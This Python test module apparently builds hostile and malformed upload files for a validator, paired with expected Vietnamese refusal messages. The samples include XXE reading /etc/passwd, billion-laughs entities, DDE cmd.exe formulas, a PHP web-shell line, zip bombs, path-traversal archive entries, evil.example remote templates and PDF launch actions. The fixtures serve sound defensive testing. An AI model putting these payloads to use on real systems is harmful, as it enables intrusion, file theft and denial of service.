"""Files that mean harm or are broken: what an attacker, a bad network or a worn disk sends."""

import io
import zipfile
from functools import cache
from typing import NamedTuple

import docx
import openpyxl
import pypdf

from tests.hostile.compound import compound

PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(40) + b"IEND\xaeB`\x82"
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
DTD = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>'
LAUGHS = '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
TYPES = "[Content_Types].xml"
RELATIONSHIP = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
    'Target="http://evil.example/x" TargetMode="External"/></Relationships>'
)


class Hostile(NamedTuple):
    """``words``: what the refusal says; empty when the file is kept as what it is."""

    about: str
    name: str
    content: bytes
    words: str


@cache
def _blank(kind: str) -> bytes:
    out = io.BytesIO()
    (docx.Document() if kind == "docx" else openpyxl.Workbook()).save(out)
    return out.getvalue()


def word(**parts: bytes | str) -> bytes:
    """A true DOCX with further parts, or with parts replaced."""
    return repacked(_blank("docx"), parts)


def excel(**parts: bytes | str) -> bytes:
    return repacked(_blank("xlsx"), parts)


def repacked(document: bytes, parts: dict[str, bytes | str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(document)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, _with_workbooks(old.read(name)) if name == TYPES else old.read(name))
        for name, content in parts.items():
            new.writestr(name, content)
    return out.getvalue()


def _with_workbooks(types: bytes) -> bytes:
    """As Office declares the workbooks that it embeds."""
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    more = f'<Default Extension="xlsx" ContentType="{kind}"/></Types>'.encode()
    return types if b'Extension="xlsx"' in types else types.replace(b"</Types>", more)


def part_of(document: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(document)) as archive:
        return archive.read(name).decode()


def zipped(**parts: bytes | str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def bomb(document: bytes, part: str, megabytes: int) -> bytes:
    """``megabytes`` of nothing in one part; made piece by piece."""
    out = io.BytesIO(document)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive, archive.open(part, "w") as target:
        for _megabyte in range(megabytes):
            target.write(bytes(1024 * 1024))
    return out.getvalue()


def nested(depth: int) -> bytes:
    """A workbook in a workbook in a workbook …"""
    inner = excel()
    for _level in range(depth):
        inner = excel(**{"xl/embeddings/a.xlsx": inner})
    return inner


def locked(document: bytes) -> bytes:
    """The flag "encrypted" set on every part."""
    data = bytearray(document)
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + flags] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def encrypted_pdf(password: str) -> bytes:
    """A PDF that the owner's password guards; it opens with ``password``, with none when that is empty."""
    out, writer = io.BytesIO(), pypdf.PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt(password, owner_password="chu-so-huu", permissions_flag=0, algorithm="AES-256")
    writer.write(out)
    return out.getvalue()


def doubled() -> bytes:
    """Two parts of one name: one program reads the first, another the second."""
    return repacked(excel(), {"xl/Workbook.xml": "<a/>"})


NOT_TAKEN, NOT_TRUE, MACRO = "Không nhận loại tệp", "không đúng với phần đuôi", "có chứa macro"
TOO_MUCH, ENTITIES, INSIDE = "nén quá nhiều", "khai báo lạ", "tệp khác bên trong"
LINKS, LOCKED, EMPTY, CUT = "liên kết tự chạy", "đặt mật khẩu", "không có nội dung", "thiếu phần cuối"
NAMELESS, TOO_BIG, BEFORE = "không có tên", "lớn hơn mức cho phép", "đứng trước phần PDF"


def _wrong_kinds():
    for extension in (
        *(
            "html",
            "htm",
            "svg",
            "js",
            "mjs",
            "xml",
            "xhtml",
            "exe",
            "dll",
            "bat",
            "cmd",
            "ps1",
            "vbs",
            "hta",
            "lnk",
        ),
        *(
            "jar",
            "php",
            "py",
            "sh",
            "swf",
            "iso",
            "zip",
            "rar",
            "7z",
            "docm",
            "xlsm",
            "pptm",
            "rtf",
            "txt",
            "eml",
        ),
    ):
        yield Hostile(f"a .{extension}", f"Tài liệu.{extension}", PDF, NOT_TAKEN)
    for name in ("pdf", ".pdf", "Tài liệu", "a.pdf.exe", "a.pdf.html", "a.docx.js", "a.pdf\u202e\u202c.scr"):
        yield Hostile(f"called {name!r}", name, PDF, NOT_TAKEN)


def _wrong_contents():
    for extension in ("pdf", "png", "jpg", "docx", "xlsx", "doc", "mp4"):
        yield Hostile(f"HTML as {extension}", f"Tài liệu.{extension}", HTML, NOT_TRUE)
    for about, name, content in (
        ("SVG as PNG", "a.png", SVG),
        ("SVG as PDF", "a.pdf", SVG),
        ("a script as PDF", "a.pdf", b"alert(document.cookie)"),
        ("EICAR as PDF", "a.pdf", EICAR),
        ("EICAR as DOCX", "a.docx", EICAR),
        ("a program as PDF", "a.pdf", b"MZ\x90\x00" * 64),
        ("an ELF program as PNG", "a.png", b"\x7fELF" + bytes(64)),
        ("a GIF that is a JAR, as PDF", "a.pdf", b"GIF89a" + zipped(a="x")),
        ("an archive as DOCX", "a.docx", zipped(a="x")),
        ("an archive as ODT", "a.odt", zipped(mimetype="application/zip")),
        ("a page before a DOCX", "a.docx", HTML + word()),
        ("XLSX as DOCX", "a.docx", excel()),
        ("DOCX as XLSX", "a.xlsx", word()),
        ("a PDF as JPG", "a.jpg", PDF),
        ("QuickTime as MP4", "a.mp4", b"\x00\x00\x00\x18ftypqt  " + bytes(64)),
        ("PHP as GIF without its head", "a.gif", b"<?php system($_GET[0]); ?>"),
        ("a DOCX cut in half", "a.docx", word()[: len(word()) // 2]),
        ("an XLSX without its last bytes", "a.xlsx", excel()[:-30]),
        (
            "an XLSX with a broken part",
            "a.xlsx",
            excel().replace(b"workbook", b"\x00\xff\x00\xff\x00\xff\x00\xff", 3),
        ),
        ("parts of one name", "a.xlsx", doubled()),
        ("a part that climbs out", "a.docx", word(**{"../../etc/cron.d/x": "x"})),
        ("a part at the root of the disk", "a.docx", word(**{"/etc/x": "x"})),
        ("a part on drive C", "a.docx", word(**{"C:/x.txt": "x"})),
        ("no list of contents", "a.xlsx", zipped(**{"xl/workbook.xml": "<a/>"})),
        ("nothing but a zip's end", "a.docx", b"PK\x05\x06" + bytes(18)),
    ):
        yield Hostile(about, name, content, NOT_TRUE)


def _harm_in_documents():
    types = part_of(word(), TYPES).replace("document.main+xml", "document.macroEnabled.main+xml", 1)
    sheet = part_of(excel(), "xl/worksheets/sheet1.xml")
    dde = sheet.replace(
        "<sheetData></sheetData>", "<sheetData><row><c><f>cmd|'/C calc'!A0</f></c></row></sheetData>"
    )
    for about, name, content, words in (
        ("a macro in a DOCX", "a.docx", word(**{"word/vbaProject.bin": "x"}), MACRO),
        ("a macro in an XLSX", "a.xlsx", excel(**{"xl/vbaProject.bin": "x"}), MACRO),
        ("a DOCM renamed", "a.docx", word(**{TYPES: types}), MACRO),
        ("an ActiveX control", "a.docx", word(**{"word/activeX/activeX1.bin": "x"}), MACRO),
        ("a DOC that is none", "a.doc", OLE, NOT_TRUE),
        ("a program in a DOCX", "a.docx", word(**{"word/embeddings/x.exe": "MZ"}), INSIDE),
        ("an archive in a DOCX", "a.docx", word(**{"word/embeddings/x.zip": zipped(a="x")}), INSIDE),
        ("a script in an XLSX", "a.xlsx", excel(**{"xl/embeddings/x.js": "x"}), INSIDE),
        ("a packed program (OLE)", "a.docx",
         word(**{"word/embeddings/oleObject1.bin": compound({"\x01Ole10Native": b"x"})}), INSIDE),
        ("XXE in document.xml", "a.docx", word(**{"word/document.xml": DTD + "<a>&b;</a>"}), ENTITIES),
        ("XXE in sharedStrings.xml", "a.xlsx", excel(**{"xl/sharedStrings.xml": DTD + "<a>&b;</a>"}), ENTITIES),
        ("XXE in UTF-16", "a.xlsx", excel(**{"xl/sharedStrings.xml": (DTD + "<a/>").encode("utf-16")}), ENTITIES),
        ("a billion laughs", "a.xlsx", excel(**{"xl/sharedStrings.xml": LAUGHS + "<a>&c;</a>"}), ENTITIES),
        ("entities in the relations", "a.docx", word(**{"word/_rels/x.xml.rels": DTD + "<a/>"}), ENTITIES),
        ("a template from afar", "a.docx",
         word(**{"word/_rels/settings.xml.rels": RELATIONSHIP % "attachedTemplate"}), LINKS),
        ("an object from afar", "a.docx",
         word(**{"word/_rels/x.xml.rels": RELATIONSHIP % "oleObject"}), LINKS),
        ("a frame from afar", "a.docx", word(**{"word/_rels/x.xml.rels": RELATIONSHIP % "frame"}), LINKS),
        ("DDE in a cell", "a.xlsx", excel(**{"xl/worksheets/sheet1.xml": dde}), LINKS),
        ("DDE in a field", "a.docx",
         word(**{"word/x.xml": "<w:instrText> DDEAUTO c:\\cmd.exe</w:instrText>"}), LINKS),
        ("a DDE link", "a.xlsx", excel(**{"xl/externalLinks/externalLink1.xml": "<ddeLink/>"}), LINKS),
        ("a bomb of 300 MB", "a.docx", bomb(word(), "word/x.xml", 300), TOO_MUCH),
        ("a bomb in an XLSX", "a.xlsx", bomb(excel(), "xl/x.xml", 300), TOO_MUCH),
        ("a bomb in a workbook in a document", "a.docx",
         word(**{"word/embeddings/a.xlsx": bomb(excel(), "xl/x.xml", 300)}), TOO_MUCH),
        ("archives in archives", "a.xlsx", nested(4), TOO_MUCH),
        ("a password (OLE)", "a.docx", OLE, LOCKED),
        ("a password (zip)", "a.xlsx", locked(excel()), LOCKED),
        ("nothing", "a.pdf", b"", EMPTY),
        ("a PDF that breaks off", "a.pdf", PDF[:-8], CUT),
        ("a PDF of its head alone", "a.pdf", b"%PDF-1.7\n", CUT),
        ("a PDF behind a page", "a.pdf", HTML + PDF, BEFORE),
        ("a PDF behind a letter's head", "a.pdf", b"Content-Type: application/pdf\r\n\r\n" + PDF, BEFORE),
        ("a PDF with a password", "a.pdf", encrypted_pdf("mo123"), LOCKED),
        ("no name left", "\u202e\u200b/", PDF, NAMELESS),
        ("a folder's name", "..", PDF, NAMELESS),
        ("one byte too many", "a.pdf", PDF + bytes(1024 * 1024), TOO_BIG),
    ):  # fmt: skip
        yield Hostile(about, name, content, words)


@cache
def refused() -> list[Hostile]:
    """Made when asked for: the bombs take a while."""
    from tests.hostile.office import harmful  # which is made of what is above; all of it is tried there

    return [*_wrong_kinds(), *_wrong_contents(), *_harm_in_documents(), *list(harmful())[::12]]


SCRIPTED = b"%PDF-1.7\n1 0 obj\n<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>\nendobj\n%%EOF\n"
LAUNCHING = b"%PDF-1.7\n1 0 obj\n<</OpenAction<</S/Launch/F(cmd.exe)>>>>\nendobj\n%%EOF\n"
KEPT = [
    Hostile("a PDF with JavaScript", "a.pdf", SCRIPTED, ""),
    Hostile("a PDF that launches", "a.pdf", LAUNCHING, ""),
    Hostile("a PDF that only forbids printing", "a.pdf", encrypted_pdf(""), ""),
    Hostile(
        "a PDF behind a scanner's commands",
        "a.pdf",
        b"\x1b%-12345X@PJL JOB\r\n@PJL ENTER LANGUAGE=PDF\r\n" + PDF,
        "",
    ),
    Hostile("a PDF that is also an archive", "a.pdf", PDF + zipped(a="x"), ""),
    Hostile("a PNG of 65,535 × 65,535", "a.png", PNG.replace(bytes(8), b"\x00\x00\xff\xff" * 2, 1), ""),
    Hostile("a picture with a page in it", "a.png", PNG + HTML, ""),
    Hostile("a formula in a cell", "a.xlsx", excel(), ""),
    Hostile(
        "a link that is clicked", "a.docx", word(**{"word/_rels/x.xml.rels": RELATIONSHIP % "hyperlink"}), ""
    ),
    Hostile("a workbook in a document", "a.docx", word(**{"word/embeddings/a.xlsx": excel()}), ""),
]
